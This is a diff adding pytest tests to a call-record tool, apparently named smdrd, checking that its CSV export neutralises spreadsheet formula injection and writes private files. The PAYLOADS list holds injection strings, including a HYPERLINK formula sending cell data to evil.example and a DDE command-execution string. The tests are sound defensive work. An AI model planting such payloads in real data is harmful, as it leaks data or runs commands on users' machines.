@@ -10,6 +10,7 @@ import csv
 import io
 import json
 import sqlite3
+import stat
 import subprocess
 import sys
 from decimal import Decimal
@@ -141,3 +142,91 @@ def test_a_bad_time_or_database_is_named(database: tuple[Path, Path], tmp_path: 
     proc = smdrd("export", "--database", tmp_path / "missing.db")
     assert proc.returncode != 0 and "missing.db" in proc.stderr
     assert not (tmp_path / "missing.db").exists()
+
+
+#: A PBX no plugin knows (`custom`), whose extension, number, trunk and account columns carry what a SIP
+#: trunk's caller ID can: spreadsheet formulas (issue 11, finding 3).
+HOSTILE_CONFIG = """
+[site]
+timezone = "UTC"
+country = "GB"
+[database]
+path = "{db}"
+[[sources]]
+name = "branch"
+kind = "file"
+format = "custom"
+path = "-"
+[sources.format_options]
+type = "csv"
+columns = ["date", "time", "extension", "number", "trunk", "account", "duration"]
+date_format = "%Y-%m-%d"
+duration_format = "seconds"
+direction = {{ internal_max_digits = 4 }}
+"""
+
+PAYLOADS = ["=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "-2+3+cmd|' /C calc'!A0", "\uff1d1+2", " =1+2"]
+
+
+def _csv_line(*cells: str) -> str:
+    return ",".join('"' + c.replace('"', '""') + '"' for c in cells) + "\r\n"
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
+    folder = tmp_path_factory.mktemp("hostile")
+    db = folder / "smdrd.db"
+    config = folder / "smdrd.toml"
+    config.write_text(HOSTILE_CONFIG.format(db=db))
+    feed = folder / "branch.csv"
+    lines = [_csv_line("2026-03-02", f"10:{i:02d}:00", p, PAYLOADS[-1 - i], p, PAYLOADS[i - 1], "60")
+             for i, p in enumerate(PAYLOADS)]
+    lines.append(_csv_line("2026-03-02", "11:00:00", "201", "+442071234567", "T1", "-12.50", "60"))
+    feed.write_text("".join(lines))
+    proc = subprocess.run([sys.executable, "-m", "smdrd", "import", "-q", "-f", "custom", "--source", "branch",
+                           "--config", str(config), str(feed)], capture_output=True, text=True, timeout=60,
+                          check=False)
+    assert proc.returncode == 0, proc.stderr
+    _, stored = table(db)
+    assert len(stored) == len(PAYLOADS) + 1
+    return db, config
+
+
+def test_csv_neutralises_formulas_and_keeps_numbers(hostile: tuple[Path, Path]) -> None:
+    """Every payload in extension, number, trunk and account leaves with a leading quote and nothing else
+    changed; the dialled +442071234567 and the account -12.50 stay exactly as stored."""
+    db, config = hostile
+    proc = smdrd("export", "--config", config, check=True)
+    rows = list(csv.reader(io.StringIO(proc.stdout, newline="")))
+    names, stored = table(db)
+    for got, want in zip(rows[1:], stored, strict=True):
+        record = dict(zip(rows[0], got, strict=True))
+        for name in ("extension", "number", "trunk", "account"):
+            value = str(dict(zip(names, want, strict=True))[name])
+            assert record[name] == (value if value in ("201", "T1", "+442071234567", "-12.50") else "'" + value)
+    cells = [c for row in rows for c in row]
+    assert "+442071234567" in cells and "-12.50" in cells
+    assert not [c for c in cells if c.lstrip()[:1] in set("=+-@\uff1d") and c not in ("+442071234567", "-12.50")]
+    # JSON lines are data for programs, not a spreadsheet: they keep exactly what the PBX sent
+    proc = smdrd("export", "--config", config, "--format", "jsonl", check=True)
+    extensions = [json.loads(line)["extension"] for line in proc.stdout.splitlines()]
+    assert extensions == [row[names.index("extension")] for row in stored]
+    assert {*PAYLOADS[:-1], "201"} == set(extensions)  # " =1+2" is stored stripped, as "=1+2"
+
+
+@pytest.mark.parametrize("umask", [0o000, 0o022])
+@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
+def test_output_file_is_private_whatever_the_umask(hostile: tuple[Path, Path], tmp_path: Path, umask: int,
+                                                   fmt: str) -> None:
+    """An export holds every call: the file is 0600 under any umask, also when it replaces a 0644 file."""
+    _, config = hostile
+    out = tmp_path / f"calls.{fmt}"
+    out.write_text("old")
+    out.chmod(0o644)
+    proc = subprocess.run([sys.executable, "-m", "smdrd", "export", "--config", str(config), "--format", fmt,
+                           "--output", str(out)], capture_output=True, text=True, timeout=60, check=False, umask=umask)
+    assert proc.returncode == 0, proc.stderr
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    assert f"{len(PAYLOADS) + 1} calls written" in proc.stderr
+    assert list(tmp_path.iterdir()) == [out], "no temporary file is left behind"
